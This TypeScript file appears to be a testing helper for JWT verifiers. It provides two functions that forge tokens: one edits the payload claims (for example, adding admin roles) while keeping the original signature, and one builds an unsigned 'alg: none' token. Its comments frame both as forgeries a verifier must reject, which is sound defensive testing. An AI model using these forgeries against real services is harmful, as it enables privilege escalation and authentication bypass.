// What an attacker can do with a token without knowing the key: edit the readable parts.

function decodeSegment(segment: string): Record<string, unknown> {
  return JSON.parse(Buffer.from(segment, 'base64url').toString('utf8')) as Record<string, unknown>;
}

function encodeSegment(value: unknown): string {
  return Buffer.from(JSON.stringify(value), 'utf8').toString('base64url');
}

function split(token: string): [string, string, string] {
  const parts = token.split('.');
  if (parts.length !== 3) throw new Error('expected a JWS compact token');
  return parts as [string, string, string];
}

/**
 * Rewrites the payload of a token (`changes` merged in) and keeps the original signature: the
 * classic "make me admin" edit. A verifier must refuse it.
 *
 * @param token - a signed token
 * @param changes - claims to set in the payload
 * @returns the tampered token
 * @example
 * ```ts
 * const forged = tamperPayload(token, { roles: ['admin', 'user'] });
 * ```
 */
export function tamperPayload(token: string, changes: Record<string, unknown>): string {
  const [header, payload, signature] = split(token);
  return `${header}.${encodeSegment({ ...decodeSegment(payload), ...changes })}.${signature}`;
}

/**
 * Turns a token into an unsecured one: header `alg: "none"`, the payload edited, no signature.
 * Libraries that trusted the header's `alg` used to accept these.
 *
 * @param token - a signed token
 * @param changes - claims to set in the payload
 * @returns the unsecured token (`<header>.<payload>.`)
 * @example
 * ```ts
 * const unsigned = algNone(token, { roles: ['admin'] });
 * ```
 */
export function algNone(token: string, changes: Record<string, unknown>): string {
  const [, payload] = split(token);
  const header = encodeSegment({ alg: 'none', typ: 'JWT' });
  return `${header}.${encodeSegment({ ...decodeSegment(payload), ...changes })}.`;
}
